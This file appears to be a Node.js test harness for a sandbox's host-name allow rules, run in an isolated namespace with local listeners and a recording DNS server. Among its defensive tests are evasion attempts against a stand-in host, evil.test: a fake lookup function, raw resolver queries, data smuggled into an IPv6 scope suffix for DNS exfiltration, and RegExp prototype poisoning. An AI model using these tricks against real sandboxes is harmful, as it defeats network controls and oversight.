// A handler stand-in for the seatbelt's host-name rules, run in a network namespace of its own
// (node-preload.test.ts starts it under `unshare --net --mount` with an /etc/hosts naming
// allowed.test 127.0.0.2 and other.test 127.0.0.3, and an /etc/resolv.conf naming 127.0.0.53).
// It starts what it talks to itself: TCP listeners that count connections, and a small DNS
// server on 127.0.0.53:53 that records every query (allowed.test A: 127.0.0.4; anything else
// NXDOMAIN). `node hosts.mjs SCENARIO ARGS-JSON` prints one JSON line per attempt, as act.mjs.
import dgram from 'node:dgram';
import dns from 'node:dns';
import { lookup as namedLookup } from 'node:dns';
import dnsPromises from 'node:dns/promises';
import http from 'node:http';
import net from 'node:net';
import tls from 'node:tls';

const [scenario] = process.argv.slice(2);
const out = (o) => process.stdout.write(JSON.stringify({ __proto__: null, ...o }) + '\n');
const errOf = (e) => {
  const c = e?.cause ?? e;
  return {
    code: e?.code ?? c?.code, message: e?.message, causeCode: e?.cause?.code, causeMessage: e?.cause?.message,
    errno: c?.errno, syscall: c?.syscall, hostname: c?.hostname,
  };
};
async function attempt(name, f) {
  try {
    const value = await f();
    out({ name, ok: true, value: value === undefined ? null : value });
  } catch (e) {
    out({ name, ok: false, ...errOf(e) });
  }
}
const settle = (start) => new Promise((resolve, reject) => { try { start(resolve, reject); } catch (e) { reject(e); } });
const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

// ---- what the handler talks to ----
const seen = {};
const listen = (host, port, server = net.createServer((s) => s.destroy())) => new Promise((resolve, reject) => {
  seen[`${host}:${port}`] = 0;
  server.on('connection', () => { seen[`${host}:${port}`]++; });
  server.on('error', reject).listen(port, host, () => resolve(server));
});
const servers = [
  await listen('127.0.0.2', 8443, http.createServer((req, res) => res.end('ok'))),
  await listen('127.0.0.2', 9999),
  await listen('127.0.0.3', 8443),
  await listen('127.0.0.3', 9000),
  await listen('127.0.0.4', 8443),
];

// DNS: enough of RFC 1035 for one question per query.
const queries = [];
const TYPES = { 1: 'A', 28: 'AAAA', 5: 'CNAME', 16: 'TXT', 255: 'ANY' };
const dnsServer = dgram.createSocket('udp4');
dnsServer.on('message', (msg, from) => {
  let at = 12;
  const labels = [];
  while (at < msg.length && msg[at] !== 0) {
    labels.push(msg.subarray(at + 1, at + 1 + msg[at]).toString('latin1'));
    at += 1 + msg[at];
  }
  const end = at + 5; // the root label, QTYPE, QCLASS
  const qtype = msg.readUInt16BE(at + 1);
  const name = labels.join('.').toLowerCase();
  queries.push(`${TYPES[qtype] ?? qtype} ${name}`);
  const known = name === 'allowed.test';
  const answer = known && qtype === 1
    ? Buffer.from([0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 127, 0, 0, 4])
    : Buffer.alloc(0);
  const header = Buffer.alloc(12);
  header.writeUInt16BE(msg.readUInt16BE(0), 0);
  header.writeUInt16BE(0x8180 | (known ? 0 : 3), 2); // a response, recursion available; NXDOMAIN for a stranger
  header.writeUInt16BE(1, 4);
  header.writeUInt16BE(answer.length ? 1 : 0, 6);
  dnsServer.send(Buffer.concat([header, msg.subarray(12, end), answer]), from.port, from.address);
});
await new Promise((resolve, reject) => dnsServer.on('error', reject).bind(53, '127.0.0.53', resolve));

// ---- the acts ----
const connect = (options) => settle((ok, no) => net.connect(options).on('error', no).on('connect', function () { this.destroy(); ok('connected'); }));
const lookup = (name, options = {}) => settle((ok, no) => dns.lookup(name, options, (e, address) => (e ? no(e) : ok(address))));
const callback = (f) => settle((ok, no) => f((e, v) => (e ? no(e) : ok(v))));
const NAMESERVER = ['127.0.0.53'];

const scenarios = {
  async enforce() {
    // An allowed name: looked up, connected to, its address bound for its port (8443) only.
    await attempt('lookup allowed.test', () => lookup('allowed.test'));
    await attempt('lookup ALLOWED.Test (normalised)', () => lookup('ALLOWED.Test'));
    await attempt('named import lookup allowed.test', () => settle((ok, no) => namedLookup('allowed.test', (e, a) => (e ? no(e) : ok(a)))));
    await attempt('net.connect allowed.test:8443', () => connect({ host: 'allowed.test', port: 8443 }));
    await attempt('http.get allowed.test:8443', () => settle((ok, no) => http.get('http://allowed.test:8443/', (res) => { res.resume(); ok(res.statusCode); }).on('error', no)));
    await attempt('fetch allowed.test:8443', () => fetch('http://allowed.test:8443/').then((r) => r.status));
    await attempt('net.connect 127.0.0.2:8443 by number', () => connect({ host: '127.0.0.2', port: 8443 }));
    await attempt('net.connect allowed.test:9999', () => connect({ host: 'allowed.test', port: 9999 }));
    await attempt('net.connect 127.0.0.2:9999 by number', () => connect({ host: '127.0.0.2', port: 9999 }));

    // Names no entry allows: ENOTFOUND, nothing looked up.
    await attempt('lookup evil.test', () => lookup('evil.test'));
    await attempt('lookup evil.test (all)', () => lookup('evil.test', { all: true }));
    await attempt('promises.lookup evil.test', () => dnsPromises.lookup('evil.test'));
    await attempt('dns.promises.lookup evil.test', () => dns.promises.lookup('evil.test'));
    await attempt('lookup localhost', () => lookup('localhost'));
    await attempt('lookup a numeric host', () => lookup('192.0.2.10'));
    await attempt('net.connect localhost', () => connect({ host: 'localhost', port: 8443 }));

    // other.test is allowed for 9000: its address is bound for 9000, not for 8443.
    await attempt('net.connect other.test:9000', () => connect({ host: 'other.test', port: 9000 }));
    await attempt('net.connect 127.0.0.3:8443 by number', () => connect({ host: '127.0.0.3', port: 8443 }));
    await attempt('net.connect other.test:8443', () => connect({ host: 'other.test', port: 8443 }));

    // Implicit lookups.
    await attempt('fetch evil.test:8443', () => fetch('http://evil.test:8443/').then((r) => r.status));
    await attempt('http.get evil.test:8443', () => settle((ok, no) => http.get('http://evil.test:8443/', (res) => { res.resume(); ok(res.statusCode); }).on('error', no)));
    await attempt('tls.connect evil.test:8443', () => settle((ok, no) => tls.connect({ host: 'evil.test', port: 8443, rejectUnauthorized: false }).on('error', no).on('secureConnect', function () { this.destroy(); ok('connected'); })));
    await attempt('dgram.send evil.test', () => settle((ok, no) => { const s = dgram.createSocket('udp4'); s.send('x', 8443, 'evil.test', (e) => { s.close(); e ? no(e) : ok('sent'); }); }));
    await attempt('dgram.connect evil.test', () => settle((ok, no) => { const s = dgram.createSocket('udp4'); s.connect(8443, 'evil.test', (e) => { s.close(); e ? no(e) : ok('connected'); }); }));
    await attempt('dgram.send allowed.test:8443', () => settle((ok, no) => { const s = dgram.createSocket('udp4'); s.send('x', 8443, 'allowed.test', (e) => { s.close(); e ? no(e) : ok('sent'); }); }));
    await attempt('dgram.send allowed.test:9999', () => settle((ok, no) => { const s = dgram.createSocket('udp4'); s.send('x', 9999, 'allowed.test', (e) => { s.close(); e ? no(e) : ok('sent'); }); }));

    // A lookup of the handler's own is not believed: its answers are checked as addresses.
    await attempt('net.connect allowed.test with a lookup that lies', () => connect({ host: 'allowed.test', port: 8443, lookup: (h, o, cb) => cb(null, [{ address: '127.0.0.4', family: 4 }]) }));
    await attempt('net.connect allowed.test with a lookup through dns.lookup', () => connect({ host: 'allowed.test', port: 8443, lookup: (h, o, cb) => dns.lookup(h, o, cb) }));

    // Resolvers, at the DNS server here (/etc/resolv.conf names it; setServers too): a refused
    // name sends nothing. The module's own functions first: setServers binds them again from
    // the Resolver prototypes.
    await attempt('module resolve4 evil.test', () => callback((cb) => dns.resolve4('evil.test', cb)));
    await attempt('module promises.resolve4 evil.test', () => dnsPromises.resolve4('evil.test'));
    dns.setServers(NAMESERVER);
    dnsPromises.setServers(NAMESERVER);
    const resolver = new dns.Resolver();
    resolver.setServers(NAMESERVER);
    const promised = new dnsPromises.Resolver();
    promised.setServers(NAMESERVER);
    await attempt('resolve4 evil.test', () => callback((cb) => dns.resolve4('evil.test', cb)));
    await attempt('resolve4 evil.test with options', () => callback((cb) => dns.resolve4('evil.test', { ttl: true }, cb)));
    await attempt('resolve evil.test ANY', () => callback((cb) => dns.resolve('evil.test', 'ANY', cb)));
    await attempt('resolve6 evil.test', () => callback((cb) => dns.resolve6('evil.test', cb)));
    await attempt('resolveAny evil.test', () => callback((cb) => dns.resolveAny('evil.test', cb)));
    await attempt('resolveCname evil.test', () => callback((cb) => dns.resolveCname('evil.test', cb)));
    await attempt('resolveTxt evil.test', () => callback((cb) => dns.resolveTxt('evil.test', cb)));
    await attempt('Resolver.resolve4 evil.test', () => callback((cb) => resolver.resolve4('evil.test', cb)));
    await attempt('Resolver.resolve evil.test', () => callback((cb) => resolver.resolve('evil.test', cb)));
    await attempt('promises.resolve4 evil.test', () => dnsPromises.resolve4('evil.test'));
    await attempt('promises.Resolver.resolve4 evil.test', () => promised.resolve4('evil.test'));
    await attempt('promises.Resolver.resolve evil.test TXT', () => promised.resolve('evil.test', 'TXT'));
    await attempt('raw channel queryA evil.test', () => resolver._handle.queryA({}, 'evil.test'));
    // To c-ares anything is a name: a "scope" after an IPv6 address is text it would send.
    await attempt('resolve4 a scoped address', () => callback((cb) => dns.resolve4('fe80::1%secret.evil.test', cb)));
    await attempt('lookup a scoped address', () => lookup('fe80::1%secret.evil.test'));
    await attempt('resolve4 a numeric host', () => callback((cb) => dns.resolve4('192.0.2.10', cb)));
    // net.isIP goes through RegExp.prototype.test: poisoned, every name looks like an address.
    const exec = RegExp.prototype.exec;
    RegExp.prototype.exec = function () { return ['']; };
    await attempt('resolve4 evil.test with RegExp poisoned', () => callback((cb) => dns.resolve4('evil.test', cb)));
    await attempt('lookup evil.test with RegExp poisoned', () => lookup('evil.test'));
    RegExp.prototype.exec = exec;
    await sleep(100);
    await attempt('DNS queries for refused names', () => queries.slice());

    // An allowed name through a resolver: its answer binds its address.
    await attempt('net.connect 127.0.0.4:8443 before resolve4', () => connect({ host: '127.0.0.4', port: 8443 }));
    await attempt('promises.Resolver.resolve4 allowed.test', () => promised.resolve4('allowed.test'));
    await attempt('net.connect 127.0.0.4:8443 after resolve4', () => connect({ host: '127.0.0.4', port: 8443 }));
    await attempt('resolve4 Allowed.Test. (callback, normalised)', () => callback((cb) => dns.resolve4('Allowed.Test.', cb)));
    await attempt('DNS queries', () => queries.slice());
    await sleep(100);
    await attempt('connections', () => ({ ...seen }));
  },

  async audit() {
    // mode: audit: nothing refused; the lookups go out and fail as Node's own would.
    await attempt('lookup evil.test', () => lookup('evil.test'));
    await attempt('resolve4 evil.test', () => { dns.setServers(NAMESERVER); return callback((cb) => dns.resolve4('evil.test', cb)); });
    await attempt('lookup other.test', () => lookup('other.test'));
    await attempt('net.connect 127.0.0.3:8443 by number', () => connect({ host: '127.0.0.3', port: 8443 }));
    await attempt('DNS queries', () => queries.slice());
  },

  async ungoverned() {
    // No 'host' entry: names are not checked.
    await attempt('lookup evil.test', () => lookup('evil.test'));
    await attempt('lookup other.test', () => lookup('other.test'));
    await attempt('DNS queries', () => queries.slice());
  },
};

const f = scenarios[scenario];
if (!f) {
  process.stderr.write(`hosts.mjs: no scenario ${scenario}\n`);
  process.exit(2);
}
await f();
for (const s of servers) s.close();
dnsServer.close();
process.exit(0);
